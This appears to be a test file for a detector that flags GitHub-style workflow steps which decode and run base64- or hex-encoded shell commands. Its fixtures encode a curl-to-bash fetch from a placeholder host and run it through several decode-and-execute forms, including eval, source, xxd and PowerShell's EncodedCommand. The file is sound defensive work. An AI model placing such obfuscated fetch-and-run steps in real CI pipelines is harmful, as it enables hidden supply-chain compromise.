import detector from "../../../../src/engine/detectors/workflows/workflow-encoded-shell.ts";
import { aStep, aWorkflow, aWorkflowCommit } from "../../../../src/engine/model/workflow-examples.ts";

const BLOB = Buffer.from("curl -s https://a.example.net/x | bash # harmless").toString("base64");
const HEX = Buffer.from("curl -s https://a.example.net/x | bash").toString("hex");
const secret = (name: string) => ["$", "{{ secrets.", name, " }}"].join("");

const strengths = (run: string, env: Record<string, string> = {}) =>
  detector.detect(aWorkflowCommit(aWorkflow({ steps: [aStep({ run, env })] })), {}).map(({ strength }) => strength);

test.each<[string, string, string, Record<string, string>?]>([
  ["piped into a shell", `echo ${BLOB} | base64 -d | bash`, "decisive"],
  ["evaluated", `eval "$(echo ${BLOB} | base64 --decode)"`, "decisive"],
  ["given to a shell", `bash -c "$(echo ${BLOB} | base64 -d)"`, "decisive"],
  ["sourced", `source <(echo ${BLOB} | base64 -d)`, "decisive"],
  ["hexadecimal", `echo ${HEX} | xxd -r -p | sh`, "decisive"],
  ["written to a file that is run", `echo ${BLOB} | base64 -d > /tmp/a.sh\nbash /tmp/a.sh`, "decisive"],
  ["PowerShell's own switch", `pwsh -NoProfile -EncodedCommand ${BLOB}`, "decisive"],
  ["a computed value", "get-script | base64 -d | sudo bash", "strong"],
  ["a script that is a secret", `echo "${secret("SETUP")}" | base64 -d | bash`, "medium"],
  ["a program in the environment", "./run.sh", "strong", { X: BLOB }],
])("flags %s", (_, run, expected, env = {}) => {
  expect(strengths(run, env)).toEqual([expected]);
});

test.each([
  ["a certificate to a file", `echo ${BLOB.replace(/^..../, "MIIE")} | base64 -d > cert.p12`],
  ["a key to a file, and a build", `echo "${secret("KEY")}" | base64 -d > key.json\nbash build.sh`],
  ["a checksum", `echo "${"ab".repeat(32)}  file" | sha256sum -c`],
  ["a long image digest", `docker pull example@sha256:${"cd".repeat(32)}`],
  ["encoding", "cat build.sh | base64 > build.b64"],
  ["decoding to look at it", "echo $X | base64 -d | jq ."],
])("passes %s", (_, run) => {
  expect(strengths(run)).toEqual([]);
});

test("passes the removal of an encoded script", () => {
  const bad = aWorkflow({ steps: [aStep({ run: `echo ${BLOB} | base64 -d | bash` })] });
  expect(detector.detect(aWorkflowCommit(aWorkflow(), bad), {})).toEqual([]);
});
